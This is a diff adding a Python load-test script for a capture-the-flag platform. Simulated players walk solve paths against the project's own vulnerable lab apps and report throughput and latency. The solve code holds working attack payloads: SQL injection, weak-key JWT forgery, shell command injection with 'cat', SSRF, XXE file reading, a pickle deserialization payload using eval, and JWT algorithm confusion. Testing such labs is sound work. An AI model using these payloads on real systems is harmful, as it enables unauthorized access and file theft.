@@ -0,0 +1,372 @@
+#!/usr/bin/env python3
+"""
+Player-simulation load test: N concurrent players walk the solve paths from
+SOLUTIONS.md, MEDIUM_SOLUTIONS.md and HARD_SOLUTIONS.md and submit the flags
+to the portal, then the run reports throughput and p50/p95/p99 per step.
+
+    # Start every app locally under gunicorn on free ports and load it
+    python loadtest.py --spawn --players 50 --duration 60
+
+    # Against a running deployment (docker-compose ports 8080, 8001-8009)
+    python loadtest.py --host 203.0.113.10 --players 30 --iterations 2
+
+    # Behind nginx-ctf.conf: challenges under /<challenge>/ on one origin
+    python loadtest.py --base-url https://capturetheflagkdg.com --paths
+
+Steps per player and iteration: join (portal home, which sets the player
+cookie), login-sqli, jwt-weak, static-secrets, command-injection,
+ssrf-internal, xxe-injection, hard-deserialization, hard-jwt-confusion and
+submit (POST /api/submit with every flag found). A step succeeds when it
+yields a flag (submit: when the portal accepts them all).
+
+container-breakout needs dind-host and brute-ssh needs sshd; both are left
+out. Spawned apps run with RATE_LIMIT_ENABLED=0 (see --keep-rate-limits);
+against a deployment, rate-limited requests show up as 429s in the report.
+Spawned apps cannot all own /flag.txt (and writing it needs root), so in
+--spawn mode each app writes its flag to a file of its own in a temporary
+directory (FLAG_FILE), and the players' exploits read that file instead.
+"""
+import argparse
+import base64
+import hashlib
+import hmac
+import json
+import os
+import pickle
+import re
+import shutil
+import socket
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request
+import warnings
+from pathlib import Path
+
+import jwt
+import requests
+
+BASE_DIR = Path(__file__).resolve().parent
+
+# Challenge -> docker-compose host port
+PORTS = {
+    "portal": 8080,
+    "login-sqli": 8001,
+    "jwt-weak": 8002,
+    "static-secrets": 8003,
+    "command-injection": 8004,
+    "ssrf-internal": 8005,
+    "xxe-injection": 8006,
+    "hard-deserialization": 8008,
+    "hard-jwt-confusion": 8009,
+}
+STEPS = [
+    "join", "login-sqli", "jwt-weak", "static-secrets", "command-injection",
+    "ssrf-internal", "xxe-injection", "hard-deserialization", "hard-jwt-confusion", "submit",
+]
+# The forged tokens use the challenges' deliberately short HMAC keys
+warnings.filterwarnings("ignore", message="The HMAC key is")
+
+FLAG_RE = re.compile(r"CTF\{[^}\s]+\}")
+TIMEOUT = 30
+
+FLAG_FILE = "/flag.txt"  # in the challenge containers
+
+
+def xxe_payload(flag_file: str) -> str:
+    return (
+        f'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file://{flag_file}">]>'
+        "<user><name>&xxe;</name></user>"
+    )
+
+
+class ReadFlag:
+    """Pickle payload: int() of the flag fails and the error message carries it back."""
+
+    def __init__(self, flag_file: str):
+        self.flag_file = flag_file
+
+    def __reduce__(self):
+        return eval, (f"int(open({self.flag_file!r}).read().strip())",)
+
+
+def pickle_payload(flag_file: str) -> str:
+    return base64.b64encode(pickle.dumps(ReadFlag(flag_file))).decode()
+
+
+def forge_hs256(claims: dict, key: str) -> str:
+    """HS256 token keyed on any string, the PEM included (jwt.encode refuses a PEM)."""
+    def b64(raw: bytes) -> str:
+        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
+
+    signing_input = b64(b'{"alg":"HS256","typ":"JWT"}') + "." + b64(json.dumps(claims).encode())
+    return signing_input + "." + b64(hmac.new(key.encode(), signing_input.encode(), hashlib.sha256).digest())
+
+
+def find_flag(text: str):
+    match = FLAG_RE.search(text)
+    return match.group(0) if match else None
+
+
+class StepFailed(Exception):
+    pass
+
+
+class Player:
+    """One simulated player with its own cookie jar (portal session and player cookie)."""
+
+    def __init__(self, name: str, urls: dict, ssrf_target: str, flag_files: dict = None):
+        """flag_files: service -> where its flag file is, when not FLAG_FILE (--spawn)."""
+        self.name = name
+        self.urls = urls
+        self.ssrf_target = ssrf_target
+        self.flag_files = flag_files or {}
+        self.http = requests.Session()
+        self.flags = []
+
+    def flag_file(self, service: str) -> str:
+        return self.flag_files.get(service, FLAG_FILE)
+
+    def url(self, service: str, path: str = "") -> str:
+        return self.urls[service].rstrip("/") + "/" + path.lstrip("/")
+
+    def check(self, resp) -> str:
+        if resp.status_code == 429:
+            raise StepFailed("429")
+        flag = find_flag(resp.text)
+        if flag is None:
+            raise StepFailed(f"no flag (HTTP {resp.status_code})")
+        self.flags.append(flag)
+        return flag
+
+    # Solve paths
+
+    def join(self):
+        resp = self.http.post(self.url("portal"), data={"flag": "", "team": self.name}, timeout=TIMEOUT)
+        resp.raise_for_status()
+
+    def login_sqli(self):
+        resp = self.http.post(
+            self.url("login-sqli", "login"), data={"username": "admin' --", "password": "x"}, timeout=TIMEOUT,
+        )
+        return self.check(resp)
+
+    def jwt_weak(self):
+        token = self.http.get(self.url("jwt-weak", "login"), params={"username": self.name}, timeout=TIMEOUT).json()["token"]
+        claims = jwt.decode(token, options={"verify_signature": False})
+        forged = jwt.encode({**claims, "role": "admin"}, "secret", algorithm="HS256")
+        resp = self.http.get(self.url("jwt-weak", "admin"), headers={"Authorization": f"Bearer {forged}"}, timeout=TIMEOUT)
+        return self.check(resp)
+
+    def static_secrets(self):
+        self.http.get(self.url("static-secrets", "robots.txt"), timeout=TIMEOUT).raise_for_status()
+        self.http.get(self.url("static-secrets", "hidden/"), timeout=TIMEOUT).raise_for_status()
+        return self.check(self.http.get(self.url("static-secrets", "hidden/flag.txt"), timeout=TIMEOUT))
+
+    def command_injection(self):
+        resp = self.http.post(self.url("command-injection"), data={"host": f"127.0.0.1; cat {self.flag_file('command-injection')}"}, timeout=TIMEOUT)
+        return self.check(resp)
+
+    def ssrf_internal(self):
+        resp = self.http.post(self.url("ssrf-internal"), data={"url": self.ssrf_target}, timeout=TIMEOUT)
+        return self.check(resp)
+
+    def xxe_injection(self):
+        resp = self.http.post(
+            self.url("xxe-injection", "api/import"), data=xxe_payload(self.flag_file("xxe-injection")),
+            headers={"Content-Type": "application/xml"}, timeout=TIMEOUT,
+        )
+        return self.check(resp)
+
+    def hard_deserialization(self):
+        resp = self.http.post(self.url("hard-deserialization", "deserialize"), data={"data": pickle_payload(self.flag_file("hard-deserialization"))}, timeout=TIMEOUT)
+        return self.check(resp)
+
+    def hard_jwt_confusion(self):
+        public_key = self.http.get(self.url("hard-jwt-confusion", "public-key"), timeout=TIMEOUT).json()["public_key"]
+        forged = forge_hs256({"sub": self.name, "role": "admin"}, public_key)
+        return self.check(self.http.post(self.url("hard-jwt-confusion", "verify"), data={"token": forged}, timeout=TIMEOUT))
+
+    def submit(self):
+        flags, self.flags = self.flags, []
+        resp = self.http.post(self.url("portal", "api/submit"), json={"flags": flags}, timeout=TIMEOUT)
+        if resp.status_code == 429:
+            raise StepFailed("429")
+        resp.raise_for_status()
+        results = resp.json()["results"]
+        if not all(r["correct"] for r in results):
+            raise StepFailed(f"{sum(not r['correct'] for r in results)} flags rejected")
+
+
+class Recorder:
+    """Per-step latencies and failures from every player thread."""
+
+    def __init__(self):
+        self.latencies = {step: [] for step in STEPS}
+        self.failures = {step: {} for step in STEPS}
+        self._lock = threading.Lock()
+
+    def record(self, step: str, seconds: float, error=None) -> None:
+        with self._lock:
+            self.latencies[step].append(seconds)
+            if error is not None:
+                self.failures[step][error] = self.failures[step].get(error, 0) + 1
+
+
+def percentile(values, q: float) -> float:
+    if len(values) == 1:
+        return values[0]
+    return statistics.quantiles(values, n=100, method="inclusive")[q - 1]
+
+
+def run_player(player: Player, recorder: Recorder, deadline: float, iterations: int) -> None:
+    done = 0
+    while (iterations and done < iterations) or (not iterations and time.monotonic() < deadline):
+        for step in STEPS:
+            start = time.perf_counter()
+            error = None
+            try:
+                getattr(player, step.replace("-", "_"))()
+            except StepFailed as e:
+                error = str(e)
+            except (requests.RequestException, ValueError, KeyError) as e:
+                error = type(e).__name__
+            recorder.record(step, time.perf_counter() - start, error)
+        done += 1
+
+
+def report(recorder: Recorder, elapsed: float, players: int) -> dict:
+    rows = {}
+    for step in STEPS:
+        values = sorted(recorder.latencies[step])
+        if not values:
+            continue
+        failed = sum(recorder.failures[step].values())
+        rows[step] = {
+            "count": len(values),
+            "failed": failed,
+            "errors": recorder.failures[step],
+            "per_sec": round(len(values) / elapsed, 2),
+            "p50_ms": round(percentile(values, 50) * 1000, 1),
+            "p95_ms": round(percentile(values, 95) * 1000, 1),
+            "p99_ms": round(percentile(values, 99) * 1000, 1),
+            "max_ms": round(values[-1] * 1000, 1),
+        }
+    total = sum(r["count"] for r in rows.values())
+    print(f"\n{players} players, {elapsed:.1f} s, {total} steps ({total / elapsed:.1f}/s)\n")
+    print(f"{'step':22} {'count':>6} {'fail':>5} {'/s':>7} {'p50 ms':>8} {'p95 ms':>8} {'p99 ms':>8} {'max ms':>8}")
+    for step, r in rows.items():
+        print(f"{step:22} {r['count']:6} {r['failed']:5} {r['per_sec']:7} {r['p50_ms']:8} {r['p95_ms']:8} {r['p99_ms']:8} {r['max_ms']:8}")
+    for step, r in rows.items():
+        if r["errors"]:
+            print(f"  {step}: {r['errors']}")
+    return {"players": players, "elapsed": round(elapsed, 2), "steps": rows}
+
+
+# Local processes (--spawn)
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def spawn(keep_rate_limits: bool, workers: int):
+    """Start every app under gunicorn with the shared config; returns (urls, flag files, processes, tempdir)."""
+    tmp = tempfile.mkdtemp(prefix="ctf-loadtest-")
+    urls, flag_files, procs = {}, {}, []
+    for service in PORTS:
+        port = free_port()
+        flag_files[service] = os.path.join(tmp, f"{service}-flag.txt")
+        env = {
+            **os.environ,
+            "PORT": str(port),
+            "PYTHONPATH": str(BASE_DIR),
+            "WEB_CONCURRENCY": str(workers),
+            "PORTAL_DB": os.path.join(tmp, "portal.db"),
+            "DB_PATH": os.path.join(tmp, "users.db"),
+            # The gunicorn master writes the app's flag here (its startup.py), not to /flag.txt
+            "FLAG_FILE": flag_files[service],
+        }
+        if not keep_rate_limits:
+            env["RATE_LIMIT_ENABLED"] = "0"
+        procs.append(subprocess.Popen(
+            [sys.executable, "-m", "gunicorn", "-c", "python:ctfcommon.gunicorn_conf", "app:app"],
+            cwd=BASE_DIR / service, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+        ))
+        urls[service] = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 30
+    for service, url in urls.items():
+        while True:
+            try:
+                with urllib.request.urlopen(url + "/healthz", timeout=1):
+                    break
+            except OSError:
+                if time.monotonic() > deadline:
+                    raise SystemExit(f"{service} did not start")
+                time.sleep(0.2)
+    return urls, flag_files, procs, tmp
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    target = parser.add_mutually_exclusive_group()
+    target.add_argument("--spawn", action="store_true", help="start the apps locally on free ports")
+    target.add_argument("--host", default="127.0.0.1", help="deployment host using the docker-compose ports")
+    target.add_argument("--base-url", help="single origin; combine with --paths")
+    parser.add_argument("--paths", action="store_true", help="challenges live under /<challenge>/ (nginx-ctf.conf, allinone.py)")
+    parser.add_argument("--ssrf-target", help="URL the SSRF step asks the server to fetch (default: its own /internal/admin)")
+    parser.add_argument("--players", type=int, default=20)
+    parser.add_argument("--duration", type=float, default=30.0, help="seconds to run (ignored with --iterations)")
+    parser.add_argument("--iterations", type=int, default=0, help="solve paths per player instead of a duration")
+    parser.add_argument("--ramp", type=float, default=2.0, help="seconds over which players join")
+    parser.add_argument("--workers", type=int, default=2, help="gunicorn workers per app with --spawn")
+    parser.add_argument("--keep-rate-limits", action="store_true", help="leave rate limiting on with --spawn")
+    parser.add_argument("--json", help="also write the report to this file")
+    args = parser.parse_args()
+
+    procs, tmp, flag_files = [], None, {}
+    if args.spawn:
+        urls, flag_files, procs, tmp = spawn(args.keep_rate_limits, args.workers)
+        ssrf_target = args.ssrf_target or urls["ssrf-internal"] + "/internal/admin"
+    elif args.base_url:
+        base = args.base_url.rstrip("/")
+        urls = {s: (f"{base}/{s}/" if args.paths and s != "portal" else base + "/") for s in PORTS}
+        ssrf_target = args.ssrf_target or "http://localhost:5000/internal/admin"
+    else:
+        urls = {s: f"http://{args.host}:{port}/" for s, port in PORTS.items()}
+        ssrf_target = args.ssrf_target or "http://localhost:5000/internal/admin"
+
+    recorder = Recorder()
+    run_id = os.urandom(2).hex()
+    players = [Player(f"load-{run_id}-{i}", urls, ssrf_target, flag_files) for i in range(args.players)]
+    deadline = time.monotonic() + args.duration
+    threads = [
+        threading.Thread(target=run_player, args=(p, recorder, deadline, args.iterations), daemon=True)
+        for p in players
+    ]
+    print(f"{args.players} players against {urls['portal']} ...")
+    start = time.perf_counter()
+    try:
+        for thread in threads:
+            thread.start()
+            time.sleep(args.ramp / max(1, args.players))
+        for thread in threads:
+            thread.join()
+        result = report(recorder, time.perf_counter() - start, args.players)
+        if args.json:
+            Path(args.json).write_text(json.dumps(result, indent=2))
+    finally:
+        for proc in procs:
+            proc.terminate()
+        for proc in procs:
+            proc.wait()
+        if tmp:
+            shutil.rmtree(tmp, ignore_errors=True)
+
+
+if __name__ == "__main__":
+    main()